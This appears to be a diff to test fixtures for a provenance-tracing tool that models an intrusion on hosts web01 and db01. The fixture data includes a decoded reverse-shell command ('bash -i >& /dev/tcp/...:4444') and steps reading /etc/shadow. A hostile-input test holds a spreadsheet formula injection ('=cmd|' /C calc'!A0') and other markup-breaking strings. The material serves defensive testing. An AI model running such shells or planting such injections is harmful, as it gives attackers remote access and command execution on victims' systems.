@@ -11,7 +11,7 @@ from provenance.ingest.clock import at_ms
 from provenance.ingest.facts import Blind, FlowKind, Name
 from provenance.ingest.identity import EntityKind, format_id
 from provenance.store.interface import Direction, EventKey, Node
-from provenance.trace.result import Decoded, Entry, HostReached, Slice, Step, Trace, TraceEdge, Truncation
+from provenance.trace.result import Decoded, Effect, Entry, HostReached, Slice, Step, Trace, TraceEdge, Truncation
 
 BEGIN = 1_795_490_932_000
 """2026-11-24T03:28:52Z."""
@@ -103,8 +103,39 @@ def break_in() -> Trace:
             Entry(2, web, None, make.bounds[web], 0.4, "outside address"),
         ),
         (
-            Step(bound, "web01", java, accepted, "java took a connection from 198.51.100.23"),
-            Step(make.bounds[shell], "web01", shell, called, "bash -i called 198.51.100.45:4444"),
+            Step(
+                bound,
+                "web01",
+                visitor,
+                accepted,
+                "198.51.100.23:41966/tcp enters through java (www-data)",
+                account="www-data",
+                is_arrival=True,
+            ),
+            Step(
+                make.bounds[shell],
+                "web01",
+                shell,
+                called,
+                "bash -i → contacts 198.51.100.45:4444/tcp; reads /etc/shadow; writes /tmp/s.sh",
+                account="uid 33",
+                effects=(
+                    Effect("contacts", ("198.51.100.45:4444/tcp",)),
+                    Effect("reads", ("/etc/shadow", "/srv/shop.db")),
+                    Effect("writes", ("/tmp/s.sh (later /tmp/.s.sh)",)),
+                ),
+            ),
+            Step(
+                make.bounds[tar],
+                "web01",
+                tar,
+                None,
+                "tar xz",
+                account="root",
+                times=35,
+                until=make.bounds[there],
+                rank=2,
+            ),
         ),
         (HostReached("web01", bound, ()), HostReached("db01", make.bounds[there], (reached,))),
         (Decoded(bash, "base64", "bash -i >& /dev/tcp/198.51.100.45/4444"),),
@@ -119,7 +150,7 @@ def hostile() -> Trace:
     shell = make.process(0, 1, evil, host='h"<\x9b>', cwd=evil, exe=evil)
     for number, name in enumerate((f"/tmp/{evil}", "=cmd|' /C calc'!A0", "@SUM(1)", "-1", "]]>", "\u2028")):
         make.flow(FlowKind.WROTE, shell, make.file(number, name, host='h"<\x9b>'), number)
-    step = Step(make.bounds[shell], evil, shell, None, evil)
+    step = Step(make.bounds[shell], evil, shell, None, evil, 0, evil, (Effect(evil, (evil,)),))
     entry = Entry(1, shell, None, make.bounds[shell], 1.0, evil)
     cut = Truncation(evil, 7, (shell,))
     return Trace(
